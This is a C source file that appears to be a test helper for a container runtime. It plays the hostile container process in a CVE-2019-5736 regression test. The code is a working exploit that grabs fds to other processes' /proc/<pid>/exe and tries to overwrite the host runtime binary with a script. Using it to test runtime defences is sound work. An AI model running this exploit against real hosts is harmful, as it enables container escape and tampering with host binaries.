/*
 * Hostile container process for the CVE-2019-5736 test: for `seconds`, keep scanning /proc for
 * processes whose executable is not the container's own (the runtime's helper entering the
 * container during `exec`), grab an O_PATH fd to their /proc/<pid>/exe, and keep trying to
 * reopen every grabbed fd for writing and overwrite the binary, as the published exploit does
 * once the runtime has exited. Prints `denied <pid>` (exe not readable), `opened <target>` and
 * `wrote <target>` lines.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRABBED 256

int main(int argc, char **argv) {
  int seconds = argc > 1 ? atoi(argv[1]) : 5;
  int grabbed[MAX_GRABBED];
  char names[MAX_GRABBED][256];
  int n = 0;
  char self[256] = "";
  ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
  if (sl > 0) self[sl] = 0;
  setvbuf(stdout, NULL, _IOLBF, 0);
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
      char path[64], target[256];
      snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
      ssize_t len = readlink(path, target, sizeof target - 1);
      /* A non-dumpable process (the helper while it holds host fds) refuses this: count it. */
      if (len < 0 && (errno == EACCES || errno == EPERM)) printf("denied %s\n", e->d_name);
      if (len <= 0) continue;
      target[len] = 0;
      /* The container's own binaries are fair game for it; never write to them (they may be the host's busybox). */
      if (strcmp(target, self) == 0 || strstr(target, "busybox") != NULL) continue;
      if (n >= MAX_GRABBED) continue;
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      strcpy(names[n], target);
      grabbed[n++] = fd;
      printf("opened %s\n", target);
    }
    if (d) closedir(d);
    for (int k = 0; k < n; k++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", grabbed[k]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) continue;
      if (write(w, "#!/bin/sh\necho pwned\n", 21) > 0) printf("wrote %s\n", names[k]);
      close(w);
    }
    usleep(1000);
  }
  printf("done\n");
  return 0;
}
